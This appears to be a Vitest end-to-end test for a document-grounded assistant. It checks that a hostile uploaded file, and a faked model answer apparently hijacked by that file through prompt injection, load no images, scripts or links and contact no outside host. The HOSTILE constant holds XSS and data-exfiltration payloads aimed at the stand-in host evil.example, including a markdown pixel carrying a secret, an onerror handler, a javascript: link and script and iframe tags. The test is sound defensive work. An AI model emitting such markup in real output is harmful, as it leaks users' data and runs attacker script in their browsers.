import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, inject, test } from "vitest";
import { createApiClient } from "../../dev/client/api.ts";
import { visit } from "./browser.ts";

const ELSEWHERE = "https://evil.example";
const HOSTILE = [
  `Refunds take ten days. ![pixel](${ELSEWHERE}/p.png?secret=1) <img src="${ELSEWHERE}/q.png" onerror="window.pwned=1">`,
  `[Click here](${ELSEWHERE}/go) and [here](javascript:window.pwned=1). <script>window.pwned=1</script>`,
  `<iframe src="${ELSEWHERE}/f"></iframe> ![ref][x] <${ELSEWHERE}/auto>`,
  `[x]: ${ELSEWHERE}/ref.png`,
].join("\n\n");

/** What a model that a document has taken over might send: past the API's own gate, on purpose. */
function takenOverStream(conversationId: string): string {
  const events: [string, unknown][] = [
    ["start", { conversation_id: conversationId, message_id: crypto.randomUUID() }],
    ["sources", []],
    ["delta", { text: HOSTILE }],
    ["done", { finish_reason: "stop", refused: false, unanchored: [], receipt: null }],
  ];
  return events.map(([event, data]) => `event: ${event}\ndata: ${JSON.stringify(data)}\n\n`).join("");
}

test("a hostile document and an answer taken over by it load nothing and lead nowhere", async () => {
  const api = createApiClient({ url: inject("apiUrl") });
  const file = join(mkdtempSync(join(tmpdir(), "ancre-e2e-")), "refunds.md");
  writeFileSync(file, `# Refunds\n\n${HOSTILE}\n`);
  const collection = await api.json<{ id: string }>("POST", "/collections", { name: "Hostile" });
  const { id } = await api.upload(collection.id, file);
  await api.settle(id);
  const assistant = await api.json<{ id: string }>("POST", "/assistants", {
    name: "Hostile",
    collection_ids: [collection.id],
  });
  const { page, requests, end } = await visit(`/ask/${assistant.id}?document=${id}&page=1`);
  await page.route("**/stream", (route) =>
    route.fulfill({
      contentType: "text/event-stream",
      body: takenOverStream("00000000-0000-4000-8000-00000000abcd"),
    }),
  );
  await page.locator(".page-text").getByText("Refunds take ten days.").waitFor();
  await page.fill("#question", "How long do refunds take?");
  await page.keyboard.press("Enter");
  const answer = page.locator("[data-answer]");
  await answer.getByText("Refunds take ten days.").waitFor();
  await answer.getByText("Click here and here.").waitFor();
  expect(
    await page.locator("main :is(img, iframe, script, [data-answer] a, [data-answer] style)").count(),
  ).toBe(0);
  expect(await page.evaluate(() => "pwned" in globalThis)).toBe(false);
  expect(requests.filter((url) => url.includes("evil.example"))).toEqual([]);
  await end();
});
